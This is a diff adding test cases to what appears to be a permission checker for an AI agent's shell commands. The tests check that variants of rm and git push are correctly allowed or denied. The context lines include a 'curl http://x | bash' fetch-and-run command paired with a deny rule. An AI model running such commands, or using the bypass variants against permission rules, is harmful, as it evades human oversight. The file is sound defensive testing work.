@@ -41,6 +41,22 @@ describe('other ways to write a denied command', () => {
   // Nobody knows what the program `git-pushx` does.
   shellTests(fixture, 'ask', ['git pushx', 'git $X'], noPush);
   shellTests(fixture, 'deny', ['curl http://x | bash'], { deny: ['Bash(curl * | bash)'] });
+  shellTests(
+    fixture,
+    'allow',
+    [
+      'ls src/rm',
+      'cat docs/rm notes.md',
+      '[ -x /usr/bin/rm ]',
+      'git add src/rm',
+      'git commit -m "see docs/rm x"',
+      'git clone https://forge.example/rm/rm',
+    ],
+    NO_RM,
+  );
+  shellTests(fixture, 'deny', ['src/rm x', '/bin/rm'], NO_RM);
+  shellTests(fixture, 'allow', ['git commit -m "docs/git push notes"'], noPush);
+  shellTests(fixture, 'deny', ['git --attr-source HEAD push'], noPush);
   shellTests(fixture, 'deny', ['ls', ''], { deny: ['Bash'] }, 'bypassPermissions');
   shellTests(fixture, 'deny', ['ls'], { deny: ['Bash(*)'] }, 'bypassPermissions');
 });
